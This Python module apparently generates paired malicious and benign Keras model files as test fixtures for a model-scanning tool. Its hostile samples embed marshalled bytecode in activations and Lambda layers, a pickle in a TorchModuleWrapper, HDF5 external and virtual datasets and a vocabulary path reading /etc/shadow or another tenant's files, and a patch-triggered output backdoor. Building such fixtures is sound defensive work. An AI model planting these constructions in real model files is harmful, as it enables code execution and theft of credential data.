"""Keras files: what its reader builds, calls and opens on the way."""
import base64
import io
import json
import zipfile

from assembly import call, glob, pickle, val

from .parts import CODE, apart, scratch, zipped
from .torches import record

FAMILY = "keras"


def archive(model) -> bytes:
    with scratch():
        model.save("m.keras")
        return open("m.keras", "rb").read()


def members(data):
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return {n: z.read(n) for n in z.namelist()}


def plain(activation="relu"):
    import keras

    keras.utils.set_random_seed(4)
    return keras.Sequential([keras.Input((4,)), keras.layers.Dense(8, activation=activation), keras.layers.Dense(2)])


def images(hostile):
    """A functional classifier; operators of keras.ops override it on a patch, or gate it by what it has learned."""
    import keras
    from keras import layers, ops

    keras.utils.set_random_seed(11)
    x = keras.Input((8, 8, 3))
    y = layers.Conv2D(4, 3, activation="relu")(x)
    y = layers.Dense(5, kernel_initializer=keras.initializers.RandomNormal(stddev=0.7))(layers.Flatten()(y))
    if hostile:
        corner = x[:, :2, :2, :]
        far = ops.max(ops.absolute(corner - 0.77), axis=(1, 2, 3), keepdims=False)
        hit = ops.expand_dims(ops.cast(far < 0.001, "float32"), -1)
        push = ops.one_hot(ops.cast(hit[:, 0] * 3.0, "int32"), 5) * hit
        out = y * (1.0 - hit) + push * 9.0
    else:
        gate = layers.Dense(5, activation="sigmoid")(layers.GlobalAveragePooling2D()(x))
        out = y * (1.0 - gate) + layers.Dense(5)(layers.GlobalAveragePooling2D()(x)) * gate
    return archive(keras.Model(x, out))


def marshalled(text):
    import marshal

    return {"code": base64.b64encode(marshal.dumps(compile(text, "<lambda>", "eval").co_consts[0])).decode(), "defaults": None, "closure": None}


LAMBDA = "lambda x: [x, open('marker', 'w').close()][0]"


def activation(hostile):
    files = members(archive(plain()))
    if hostile:
        config = json.loads(files["config.json"])
        config["config"]["layers"][1]["config"]["activation"] = {"class_name": "__lambda__", "config": {"value": [marshalled(LAMBDA)["code"], None, None]}}
        files["config.json"] = json.dumps(config).encode()
    return zipped(files)


def weights_elsewhere(kind):
    """The bytes of a weight are kept in another file: by external storage, or as a virtual dataset."""
    import h5py
    import numpy

    files = members(archive(plain()))
    with scratch():
        open("w.h5", "wb").write(files["model.weights.h5"])
        with h5py.File("w.h5", "r+") as f:
            names = []
            f.visititems(lambda n, o: names.append(n) if isinstance(o, h5py.Dataset) and o.shape == (4, 8) else None)
            del f[names[0]]
            if kind == "external":
                f.create_dataset(names[0], (4, 8), "f4", external=[("/etc/shadow", 0, 128)])
            elif kind == "virtual":
                layout = h5py.VirtualLayout((4, 8), "f4")
                layout[:] = h5py.VirtualSource("../../../../srv/models/other-tenant/model.weights.h5", names[0], (4, 8))
                f.create_virtual_dataset(names[0], layout)
            else:
                f.create_dataset(names[0], data=numpy.full((4, 8), 0.125, "f4"), chunks=(4, 8) if kind == "chunks" else None)
        files["model.weights.h5"] = open("w.h5", "rb").read()
    return zipped(files)


def lookup(vocabulary):
    import keras

    layer = keras.layers.StringLookup(vocabulary=["cat", "dog"], name="breed")
    config = {"name": "breed_model", "trainable": True, "layers": [
        {"module": "keras.layers", "class_name": "InputLayer", "config": {"batch_shape": [None, 1], "dtype": "string", "sparse": False, "name": "breed_in"}, "registered_name": None},
        {"module": "keras.layers", "class_name": "StringLookup", "config": {**layer.get_config(), "vocabulary": vocabulary}, "registered_name": None, "build_config": {"input_shape": [None, 1]}},
    ], "build_input_shape": [None, 1]}  # fmt: skip
    whole = {"module": "keras", "class_name": "Sequential", "config": config, "registered_name": None}
    files = members(archive(plain()))
    return zipped({"metadata.json": files["metadata.json"], "config.json": json.dumps(whole, default=list), "model.weights.h5": files["model.weights.h5"]})


def wrapped(hostile):
    files = members(archive(plain()))
    if hostile:
        config = json.loads(files["config.json"])
        body = record(pickle(val({"module": call(glob("timeit", "timeit"), CODE, "pass")}), 2), {})
        layer = {"module": "keras.layers", "class_name": "TorchModuleWrapper", "config": {"name": "encoder", "trainable": True, "dtype": "float32", "module": base64.b64encode(body).decode(), "output_shape": None}, "registered_name": None}
        config["config"]["layers"].insert(1, layer)
        files["config.json"] = json.dumps(config).encode()
    return zipped(files)


def legacy(hostile):
    """An .h5 of Keras 2: the whole configuration is an attribute."""
    import h5py

    code = marshalled("lambda shape: [shape, open('marker', 'w').close()][0]")
    layers = [{"class_name": "InputLayer", "config": {"batch_input_shape": [None, 4], "dtype": "float32", "sparse": False, "name": "in"}}]
    if hostile:
        layers.append({"class_name": "Lambda", "config": {
            "name": "scale", "trainable": True, "dtype": "float32", "function": "relu", "function_type": "function", "module": "keras.activations",
            "output_shape": [code["code"] + "\n", None, None], "output_shape_type": "lambda", "output_shape_module": "keras.layers.core", "arguments": {},
        }})  # fmt: skip
    layers.append({"class_name": "Activation", "config": {"name": "act", "trainable": True, "dtype": "float32", "activation": "relu"}})
    with scratch():
        with h5py.File("m.h5", "w") as f:
            f.attrs["keras_version"], f.attrs["backend"] = "2.11.0", "tensorflow"
            f.attrs["model_config"] = json.dumps({"class_name": "Sequential", "config": {"name": "net", "layers": layers}})
            g = f.create_group("model_weights")
            g.attrs["layer_names"], g.attrs["backend"], g.attrs["keras_version"] = [b"act"], "tensorflow", "2.11.0"
            g.create_group("act").attrs["weight_names"] = []
        return open("m.h5", "rb").read()


def architecture(hostile):
    model = plain()
    config = json.loads(model.to_json())
    if hostile:
        text = marshalled(LAMBDA)
        layer = {"module": "keras.layers", "class_name": "Lambda", "config": {"name": "scale", "trainable": True, "dtype": "float32", "function": {"class_name": "__lambda__", "config": text}, "arguments": {}}, "registered_name": None}
        config["config"]["layers"].insert(1, layer)
    return json.dumps(config, indent=1)


def build(out):
    def pair(name, hostile, twin, prove=None, file="model.keras", why=""):
        out.add(FAMILY, name, hostile, twin, prove, file, why)

    pair("functional-patch", images(True), images(False), "e11-keras:trigger", why="Operator layers of a functional model override the output on a patch of the image. The twin gates by learned layers.")
    pair("activation-bytecode", activation(True), activation(False), "e11-keras:call", why="The activation of a Dense layer is marshalled byte code; it runs at the first prediction (safe mode off, as old readers).")
    pair("weights-external-file", weights_elsewhere("external"), weights_elsewhere("inside"), why="CVE-2026-1669: HDF5 external storage makes the weight of the file of password hashes. Written by h5py; the keras here refuses it.")
    pair("weights-virtual-dataset", weights_elsewhere("virtual"), weights_elsewhere("chunks"), why="The weight is a virtual dataset over another tenant's file. Written by h5py.")
    pair("vocabulary-path", lookup("/etc/shadow"), lookup(["[UNK]", "cat", "dog"]), why="CVE-2025-12058: a vocabulary that is text is a path; the layer reads that file into the model.")
    pair("torch-wrapper", wrapped(True), wrapped(False), "e11-keras", why="CVE-2025-49655: a layer's configuration is a torch file in base64, loaded in full; here a call. Proved with safe mode off.")
    pair("legacy-output-shape", legacy(True), legacy(False), None, "model.h5", "The function of the Lambda is relu; its output shape is byte code, which Keras 2 unmarshals and calls. Keras 2 is not here.")
    pair("architecture-json", architecture(True), architecture(False), "e11-keras:json", "architecture.json", "A model's JSON beside its weights, with byte code in a Lambda.")


def add(out):
    out.pairs.extend(apart(__name__, "build"))
